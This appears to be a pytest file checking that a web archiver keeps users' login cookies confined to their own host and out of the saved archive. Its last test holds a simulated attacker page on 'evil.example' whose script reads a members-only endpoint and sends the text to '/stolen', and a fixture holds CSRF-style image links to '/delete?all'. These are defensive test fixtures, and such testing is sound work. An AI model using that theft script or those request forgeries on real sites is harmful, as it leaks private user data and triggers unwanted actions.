"""Pages behind a login: captured with the user's cookies, marked, and nothing of the secret in the archive."""

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from archiver.config.settings import HostSettings
from archiver.tasks.crawl.crawl import CrawlReport, crawl
from archiver.tasks.reindex import reindex
from archiver.urls import host_of
from tests.support.crawling import plan_of, records, rows
from tests.support.program import archiver
from tests.support.webs import Asked, Web, page, redirect, reply, running_web

SECRET = "s3cr3t-of-the-user"
LOGIN, OTHER, EVIL = "members.example", "other.example", "evil.example"
POST = f"https://{LOGIN}/post/"
PRIVATE = "Only members read that the harbour was closed that day."
WALL = "Log in to read this."


def members_only(inside: str, outside: str = WALL, kind: str = "text/html", **headers: str) -> Callable[[Asked], bytes]:
    def answer(asked: Asked) -> bytes:
        known = f"id={SECRET}" in asked.headers.get("cookie", "")
        return reply(inside if known else outside, kind, **headers)

    return answer


def furnish(web: Web) -> None:
    picture = f'<img src="/photo.png"><img src="https://{OTHER}/photo.png">'
    web[LOGIN, "/post/"] = members_only(
        f"<title>Inside</title><article><p>{PRIVATE}</p>{picture}</article>", f"<title>Wall</title><p>{WALL}</p>",
        etag='"same-for-all"', set_cookie="seen=once",
    )  # fmt: skip
    web[LOGIN, "/photo.png"] = reply(b"\x89PNG\r\n\x1a\n" + b"0" * 2000, "image/png")
    web[OTHER, "/photo.png"] = reply(b"\x89PNG\r\n\x1a\n" + b"1" * 2000, "image/png")
    web[LOGIN, "/out/"] = redirect(f"https://{OTHER}/landed/")
    web[OTHER, "/landed/"] = page("Landed")
    web[LOGIN, "/plain/"] = page("Without TLS")
    web[LOGIN, "/robots.txt"] = reply("User-agent: *\nDisallow:", "text/plain")
    web[OTHER, "/"] = page(f'<img src="https://{LOGIN}/delete?all"><img src="https://{OTHER}/hop">')
    web[OTHER, "/hop"] = redirect(f"https://{LOGIN}/delete?hopped")


def crawl_with(web: Web, data_dir: Path, *seeds: str, cookies: bool = True, **settings: Any) -> CrawlReport:
    """`members.example` has a cookie file, whose cookie is for https only and would go to all of `.example`."""
    file = data_dir.parent / "members.txt"
    file.write_text(f"# Netscape HTTP Cookie File\n.example\tTRUE\t/\tTRUE\t0\tid\t{SECRET}\n")
    file.chmod(0o600)
    plan = plan_of(web, data_dir, seeds, **settings)
    return crawl(replace(plan, hosts={LOGIN: HostSettings(cookies=file)}) if cookies else plan)


def everything(data_dir: Path) -> bytes:
    """All files of an archive, WARC records as they are written."""
    files = [path.read_bytes() for path in data_dir.rglob("*") if path.is_file()]
    return b"".join([*files, *(str(record.headers).encode() + record.block.bytes() for record in records(data_dir))])


@dataclass(frozen=True, slots=True)
class Captured:
    data_dir: Path
    web: Web


@pytest.fixture(scope="module")
def captured(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Captured]:
    folder = tmp_path_factory.mktemp("members")
    with running_web(folder) as web:
        furnish(web)
        report = crawl_with(
            web, folder / "archive", POST, f"https://{LOGIN}/out/", f"http://{LOGIN}/plain/", f"https://{OTHER}/", scope="page"
        )
        assert report.outcome.failed == [] and report.outcome.notes == {}
        yield Captured(folder / "archive", web)


def test_the_cookie_goes_to_its_host_over_https_and_nowhere_else(captured: Captured) -> None:
    web = captured.web
    told = {asked.url for asked in web.asked if SECRET in str(asked.headers)}
    assert told >= {POST, f"https://{LOGIN}/photo.png", f"https://{LOGIN}/out/"}
    assert {f"https://{OTHER}/landed/", f"https://{OTHER}/photo.png", f"http://{LOGIN}/plain/"} <= set(web.urls()) - told
    assert {host_of(url) for url in told} == {LOGIN}


def test_what_another_sites_page_names_on_the_host_is_asked_for_without_it(captured: Captured) -> None:
    """A picture, or where it redirects to: no browser sends cookies there, and `delete?all` may do what it says."""
    named = {asked.url: SECRET in str(asked.headers) for asked in captured.web.asked if "/delete" in asked.url}
    assert named == {f"https://{LOGIN}/delete?all": False, f"https://{LOGIN}/delete?hopped": False}


def test_captures_are_marked_and_the_secret_is_nowhere_in_the_archive(captured: Captured) -> None:
    assert rows(captured.data_dir, "SELECT title FROM pages WHERE url = ?", POST) == ["Inside"]
    marked = set(rows(captured.data_dir, "SELECT url FROM captures WHERE with_cookies"))
    assert POST in marked and not any(OTHER in url or url.startswith("http:") for url in marked)
    assert SECRET.encode() not in everything(captured.data_dir) and b"members.txt" not in everything(captured.data_dir)


def test_both_records_say_which_header_is_blanked_and_what_servers_set_stays(captured: Captured) -> None:
    of_post = {record.record_type: record for record in records(captured.data_dir) if record.url == POST}
    assert {kind: record.get("WARC-Request-Blanked") for kind, record in of_post.items()} == {
        "response": "Cookie",
        "request": "Cookie",
    }
    assert b"\r\nCookie: [blanked]\r\n" in of_post["request"].block.bytes()
    assert b"\r\nSet-Cookie: seen=once\r\n" in of_post["response"].block.bytes()
    others = [record for record in records(captured.data_dir) if OTHER in record.url]
    assert others and all(record.get("WARC-Request-Blanked") is None for record in others)


def test_a_reindex_marks_the_same(captured: Captured) -> None:
    sql = "SELECT id, url, with_cookies FROM captures ORDER BY id"
    before = rows(captured.data_dir, sql)
    reindex(captured.data_dir)
    assert rows(captured.data_dir, sql) == before and any(row[2] for row in before)


def test_find_and_show_tell(captured: Captured) -> None:
    [line] = archiver("find", POST, "--json", "--archive", captured.data_dir).lines
    assert [capture["with_cookies"] for capture in line["captures"]] == [True]
    shown = archiver("show", POST, "--archive", captured.data_dir).out
    assert "1 of 1 record made with the user's own cookies" in shown
    assert "made with the user's own cookies" in re.sub(r"\s+", " ", shown.partition("record")[2].partition("cookies   ")[0])


def test_what_was_seen_with_and_without_cookies_is_not_taken_for_the_same(web: Web, data_dir: Path) -> None:
    """The server's ETag does not tell its readers apart, so no condition may be asked by it across the wall."""
    furnish(web)
    for cookies in (False, True, False):
        crawl_with(web, data_dir, POST, cookies=cookies)
    asked = [each.headers.get("if-none-match") for each in web.asked if each.url == POST]
    assert asked == [None, None, None]
    titles = rows(data_dir, "SELECT title FROM page_versions WHERE url = ? ORDER BY captured_at", POST)
    assert titles == ["Wall", "Inside"]


def test_a_browser_has_them_for_the_page_itself_and_hides_them_from_scripts_and_other_sites(web: Web, data_dir: Path) -> None:
    """Another site's script may read what anybody may read: what came for the user's cookies must not be given to it."""
    furnish(web)
    script = """document.getElementById('told').textContent = `cookies: ${document.cookie}.`;
        fetch('/me').then(reply => reply.text()).then(words => { document.getElementById('me').textContent = words })"""
    web[LOGIN, "/app/"] = members_only(f"<h1>App</h1><p id=told></p><p id=me></p><script>{script}</script>")
    web[LOGIN, "/me"] = members_only("You are Ann.", "You are nobody.", access_control_allow_origin="*")
    stealing = f"""for (const how of [{{}}, {{credentials: 'omit', referrerPolicy: 'no-referrer'}}])
        fetch('https://{LOGIN}/me', how).then(reply => reply.text())
            .then(words => fetch('/stolen?' + words.replaceAll(' ', '+')))"""
    embedded = f'<script src="https://{LOGIN}/me.js" referrerpolicy="no-referrer"></script><img src="https://{LOGIN}/photo.png">'
    web[EVIL, "/"] = reply(f"<title>Evil</title><h1>Evil</h1>{embedded}<script>{stealing}</script>")
    crawl_with(web, data_dir, f"https://{LOGIN}/app/", f"https://{EVIL}/", scope="page", screenshots="pages", render_time=20)
    texts = {record.url: record.block.bytes().decode() for record in records(data_dir) if record.url.startswith("urn:text:")}
    assert "cookies: ." in texts[f"urn:text:https://{LOGIN}/app/"]
    assert "You are Ann." in texts[f"urn:text:https://{LOGIN}/app/"]
    stolen = [url for url in web.urls(EVIL) if "/stolen" in url]
    assert stolen and not any("Ann" in url for url in stolen)
    marked = dict(rows(data_dir, "SELECT url, max(with_cookies) FROM captures WHERE record_type = 'resource' GROUP BY url"))
    assert marked[f"urn:view:https://{LOGIN}/app/"] == 1 and marked[f"urn:view:https://{EVIL}/"] == 0
    assert SECRET.encode() not in everything(data_dir)
